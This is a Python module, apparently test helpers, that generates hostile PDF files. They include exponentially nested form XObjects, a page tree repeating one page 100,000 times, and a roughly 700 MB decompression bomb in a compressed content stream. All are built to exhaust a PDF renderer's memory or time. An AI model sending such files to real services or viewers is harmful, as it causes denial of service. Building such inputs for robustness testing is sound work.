"""PDFs that mean harm: small files that cost gigabytes or hours."""

from __future__ import annotations

import zlib


def document(objects: list[bytes]) -> bytes:
    """Numbered objects, the first the catalogue, as a file."""
    out, places = b"%PDF-1.5\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, start)


def stream(head: bytes, data: bytes) -> bytes:
    """A stream object."""
    return b"<< " + head + b" /Length %d >>\nstream\n" % len(data) + data + b"\nendstream"


def _one_page(content: bytes, resources: bytes, *more: bytes) -> bytes:
    return document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << "
            + resources
            + b" >> >>",
            content,
            *more,
        ]
    )


def nested_forms(depth: int = 30, times: int = 10) -> bytes:
    """Forms that each draw the next so many times: times to the power of depth."""
    forms = []
    for level in range(depth):
        number = 5 + level
        inner = b"/F Do " * times if level + 1 < depth else b"BT /F1 9 Tf (a) Tj ET"
        name = b"/XObject << /F %d 0 R >>" % (number + 1) if level + 1 < depth else b""
        forms.append(
            stream(b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << " + name + b" >>", inner)
        )
    return _one_page(stream(b"", b"/F Do"), b"/XObject << /F 5 0 R >>", *forms)


def many_pages(count: int = 100_000) -> bytes:
    """The same page again and again."""
    kids = b"3 0 R " * count
    return document(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [" + kids + b"] /Count %d >>" % count,
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>",
        ]
    )


def long_stream(megabytes: int = 700) -> bytes:
    """Drawing orders without end, packed small."""
    packer = zlib.compressobj(9)
    piece = b"1 0 0 1 0 0 cm\n" * 70_000
    packed = b"".join(packer.compress(piece) for _ in range(megabytes)) + packer.flush()
    return _one_page(stream(b"/Filter /FlateDecode", packed), b"")
